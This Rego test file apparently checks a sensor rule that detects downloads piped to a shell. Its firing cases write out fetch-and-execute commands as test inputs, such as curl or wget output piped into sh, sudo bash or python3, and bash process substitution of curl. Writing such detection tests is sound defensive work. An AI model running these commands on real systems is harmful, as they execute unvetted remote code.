package sensor.rules.download_piped_to_shell_test

import rego.v1

import data.sensor.rules.download_piped_to_shell as r
import data.sensor.test.fixtures as f

test_curl_pipe_sh_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/dash", ["sh", "-c", "wget -qO- http://x/i | sudo bash -s"])
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "curl -s http://x/p.py | /usr/bin/python3 -"])
}

test_process_substitution_fires if {
	count(r.alert) == 1 with input as f.exec("/usr/bin/bash", ["bash", "-c", "bash <(curl -s http://x/i.sh)"])
}

test_curl_to_file_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/bash", ["bash", "-c", "curl -s http://127.0.0.1:8000/ -o /tmp/out"])
}

test_curl_piped_to_grep_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/bash", ["bash", "-c", "curl -s http://127.0.0.1:8000/ | grep -q Directory"])
}

test_non_shell_is_quiet if {
	count(r.alert) == 0 with input as f.exec("/usr/bin/curl", ["curl", "http://x/ | sh"])
}
